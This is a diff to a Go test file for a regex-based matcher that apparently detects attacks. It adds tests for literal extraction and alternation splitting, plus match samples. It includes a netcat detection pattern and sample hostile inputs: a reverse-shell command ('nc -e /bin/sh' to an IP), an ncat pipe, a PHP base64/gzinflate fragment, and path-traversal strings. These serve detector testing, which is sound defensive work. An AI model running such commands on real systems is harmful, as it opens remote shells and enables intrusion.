@@ -70,6 +70,11 @@ func TestRequiredLiterals(t *testing.T) {
 		{`x?y`, [][]string{{"y", "xy"}}},
 		{`(ab)+`, [][]string{{"ab"}}},
 		{`a{0,3}`, nil},
+		// A repeat needs Min copies of its literals in a row.
+		{`\.{2}`, [][]string{{".."}}},
+		{`\.{2,3}[\\/]`, [][]string{{".."}, {"/", "\\"}}},
+		// Optional prefixes overflow the product; the run after them stays tight.
+		{`["']?(/usr|/bin|/sbin|/usr/local)?(/s?bin/)?n(c|cat|etcat)\s`, [][]string{product([]string{"nc", "ncat", "netcat"}, []string{"\t", "\n", "\f", "\r", " "})}},
 	}
 	for _, tt := range tests {
 		re, err := syntaxParse(tt.in)
@@ -87,6 +92,39 @@ func TestRequiredLiterals(t *testing.T) {
 		slices.SortFunc(tt.want, func(a, b []string) int { return strings.Compare(strings.Join(a, ","), strings.Join(b, ",")) })
 		if fmt.Sprint(got) != fmt.Sprint(tt.want) {
 			t.Errorf("requiredLiterals(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestDistribute(t *testing.T) {
+	tests := []struct {
+		in   string
+		want []string
+	}{
+		{`\b(a1|b2|c3|d4|e5|f6|g7|h8)\s*\(`, []string{`\b(a1)\s*\(`, `\b(b2)\s*\(`, `\b(c3)\s*\(`, `\b(d4)\s*\(`,
+			`\b(e5)\s*\(`, `\b(f6)\s*\(`, `\b(g7)\s*\(`, `\b(h8)\s*\(`}},
+		// The larger of two groups; non-capturing groups keep their "(?:".
+		{`(x|y)(?:a1|b2|c3|d4|e5|f6|g7|h8|i9)z`, []string{`(x|y)(?:a1)z`, `(x|y)(?:b2)z`, `(x|y)(?:c3)z`, `(x|y)(?:d4)z`,
+			`(x|y)(?:e5)z`, `(x|y)(?:f6)z`, `(x|y)(?:g7)z`, `(x|y)(?:h8)z`, `(x|y)(?:i9)z`}},
+		// Kept whole: too few alternatives, a repeated group, an alternative
+		// without a literal, a flag group, a nested group.
+		{`\b(a1|b2|c3|d4|e5|f6|g7)x`, []string{`\b(a1|b2|c3|d4|e5|f6|g7)x`}},
+		{`(a1|b2|c3|d4|e5|f6|g7|h8)+x`, []string{`(a1|b2|c3|d4|e5|f6|g7|h8)+x`}},
+		{`(a1|b2|c3|d4|e5|f6|g7|.*)x`, []string{`(a1|b2|c3|d4|e5|f6|g7|.*)x`}},
+		{`(?i:a1|b2|c3|d4|e5|f6|g7|h8)x`, []string{`(?i:a1|b2|c3|d4|e5|f6|g7|h8)x`}},
+		{`x((a1|b2|c3|d4|e5|f6|g7|h8))`, []string{`x((a1|b2|c3|d4|e5|f6|g7|h8))`}},
+	}
+	for _, tt := range tests {
+		brs, err := splitPattern(tt.in)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, b := range brs {
+			got = append(got, b.re.src)
+		}
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("splitPattern(%q) = %q, want %q", tt.in, got, tt.want)
 		}
 	}
 }
@@ -168,6 +206,11 @@ var matchSamples = []string{
 	"GB82 WEST 1234 5698 7654 32", "123-45-6789", "aws_secret = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
 	"please gift wrap; leave at the back door.", "mozilla/5.0 (x11; linux x86_64; rv:132.0)", "/.git/config",
 	"select name from users", "char(65,66)", "alert (1)", "a\nb", "\x00", "ѐ⌘ unicode ✓",
+	// Branches split out of large alternations (php-002, rce-001): the
+	// common Chrome user agent holds "chr", a command after a separator.
+	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+	"chr(97).chr(98)", "x=1;nc -e /bin/sh 10.0.0.1 4444", "a | /usr/bin/ncat 10.0.0.1", "gzinflate (base64_decode('eJ'))",
+	"..;/admin", "x/..\\y", "time ls -la", "&& python3 -c 'print(1)'",
 }
 
 // TestMatcherEquivalence checks that the split and pre-filtered matcher of
